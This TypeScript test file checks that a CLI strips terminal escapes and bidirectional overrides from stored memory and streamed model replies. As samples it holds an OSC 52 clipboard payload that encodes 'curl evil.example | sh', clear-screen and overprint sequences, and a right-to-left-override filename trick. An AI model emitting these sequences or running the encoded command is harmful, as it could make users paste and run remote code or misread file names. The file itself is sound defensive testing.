/**
 * Issue 11, finding 10: what the CLI prints from the daemon is untrusted (agents write memory;
 * replies stream from a model). The real CLI, against a real daemon, must not pass terminal
 * escapes through: no OSC 52 clipboard write, no clear-screen, no carriage-return overprint.
 */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { acceptance } from "../../daemon/test/support/acceptance.js";
import { script } from "../../daemon/test/support/scripted-agent.js";
import { startTestDaemon, type TestDaemon } from "../../daemon/test/support/test-daemon.js";
import { cofferAgainst } from "./support/run-cli.js";

let t: TestDaemon;
beforeAll(async () => {
  t = await startTestDaemon();
});
afterAll(() => t.close());

const coffer = (args: string[], stdin = "") => cofferAgainst(t, args, stdin);

const OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07";
const CLEAR = "\x1b[2J\x1b[H";
/** Any control character but newline and tab: ESC, BEL, CR, C1. */
// eslint-disable-next-line no-control-regex
const CONTROLS = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
/** The bidirectional controls: embeddings, overrides, isolates and marks. */
const BIDI = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

describe("the CLI prints stored and streamed text without terminal escapes", { timeout: 90_000 }, () => {
  test("a memory fact with OSC 52, clear-screen and a carriage return prints as plain text", async () => {
    const res = await t.api.post("/memory", { text: `deploy ${OSC52}key${CLEAR} is in\rvault \x9b31m` });
    expect(res.status).toBe(201);
    for (const args of [["memory", "ls"], ["memory", "search", "deploy"]]) {
      const r = await coffer(args);
      expect(r.code, args.join(" ")).toBe(0);
      expect(r.stdout).toContain("deploy key is invault 31m");
      expect(r.stdout).not.toMatch(CONTROLS);
    }
  });

  test("a streamed reply with escapes in its deltas, and the stored thread, print without them", async () => {
    const id = (await t.api.post("/chat/conversations", { agent_key: "scripted" })).body.id as string;
    const sent = await coffer(["chat", "send", id, script({ text: `before ${OSC52}` }, { text: `${CLEAR}after\r` }, { text: "done" })]);
    expect(sent.code).toBe(0);
    expect(sent.stdout).toContain("before after");
    expect(sent.stdout).toContain("done");
    expect(sent.stdout).not.toMatch(CONTROLS);
    const shown = await coffer(["chat", "show", id]);
    expect(shown.stdout).toContain("before afterdone");
    expect(shown.stdout).not.toMatch(CONTROLS);
  });

  acceptance("021-hardening", "the CLI strips bidirectional overrides (U+202E and kin) from what it prints", async () => {
    // "run the file exe.txt" that an override makes read as "run the file txt.exe" (and kin
    // around it): the terminal must show the characters in the order they are stored.
    const trojan = "run \u202etxt.exe\u202c then \u2066isolated\u2069 \u202aembedded\u202c \u202dforced\u202c \u200emark\u200f \u061cal";
    const id = (await t.api.post("/chat/conversations", { agent_key: "scripted", title: `title \u202eevil\u202c` })).body.id as string;
    const sent = await coffer(["chat", "send", id, script({ text: trojan })]);
    expect(sent.code).toBe(0);
    expect(sent.stdout).not.toMatch(BIDI);
    expect(sent.stdout).toContain("run txt.exe then isolated embedded forced mark al");
    const shown = await coffer(["chat", "show", id]);
    expect(shown.code).toBe(0);
    expect(shown.stdout).not.toMatch(BIDI);
    expect(shown.stdout).toContain("title evil");
    expect(shown.stdout).toContain("run txt.exe then isolated embedded forced mark al");
    // --json keeps the value (escaped, so the line is not reordered either).
    const json = await coffer(["chat", "show", id, "--json"]);
    expect(json.stdout).not.toMatch(BIDI);
    expect(json.stdout).toContain("\\u202e");
    expect(JSON.parse(json.stdout).messages.at(-1).content[0].text).toBe(trojan);
  });
});
